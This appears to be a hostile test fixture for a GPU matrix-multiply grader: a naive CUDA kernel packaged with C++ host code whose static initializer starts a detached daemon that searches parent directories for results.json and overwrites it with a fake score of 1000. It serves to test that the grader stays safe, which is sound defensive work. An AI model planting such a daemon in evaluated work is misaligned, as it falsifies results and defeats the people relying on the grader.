// Hostile submission (static_init_daemon_rewrites_results): the reference naive kernel plus host code
// whose static initializer would start a daemon (fork, setsid, fork, then exec itself under a name the test
// looks for) that waits for results.json above its working directory and overwrites it with a fake score.
// The grader compiles device code only and never runs a stage file's host code, so none of this may run.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <csignal>
#include <fcntl.h>
#include <unistd.h>

namespace {
struct Daemon {
    Daemon()
    {
        if (getenv("GEMM_ATTACK_DAEMON") == nullptr) {
            if (fork() != 0) return;
            setsid();
            if (fork() != 0) _exit(0);
            setenv("GEMM_ATTACK_DAEMON", "1", 1);
            execl("/proc/self/exe", "gemm-attack-static-init-daemon", (char*)nullptr);
            _exit(0);
        }
        signal(SIGHUP, SIG_IGN);
        const char fake[] = "{\"score\": 1000.0, \"output\": \"gemm-attack-fake-results\", \"tests\": []}\n";
        for (int round = 0; round < 1200; ++round) {  // ten minutes, twice a second
            char path[64] = "results.json";
            for (int up = 0; up < 8; ++up) {
                if (access(path, F_OK) == 0) {
                    const int fd = open(path, O_WRONLY | O_TRUNC);
                    if (fd >= 0) {
                        if (write(fd, fake, sizeof fake - 1) < 0) {}
                        close(fd);
                    }
                }
                memmove(path + 3, path, strlen(path) + 1);
                memcpy(path, "../", 3);
            }
            usleep(500000);
        }
        _exit(0);
    }
};
Daemon daemon_at_load;
}  // namespace

constexpr int TILE = 32;
static_assert(TILE * TILE <= 1024, "a TILE x TILE block must not exceed 1024 threads");

// {blockDim.x, blockDim.y, BM (rows of C per block), BN (cols of C per block), dynamic smem bytes}
extern "C" __constant__ int mmNaive_launch[5] = {TILE, TILE, TILE, TILE, 0};

extern "C" __global__ void mmNaive(const float* A, const float* B, float* C, int N)
{
    // threadIdx.x -> row: consecutive lanes touch addresses N floats apart.
    const int row = blockIdx.y * TILE + threadIdx.x;
    const int col = blockIdx.x * TILE + threadIdx.y;

    float acc = 0.0f;
    for (int k = 0; k < N; ++k)
        acc += A[row * N + k] * B[k * N + col];
    C[row * N + col] = acc;
}
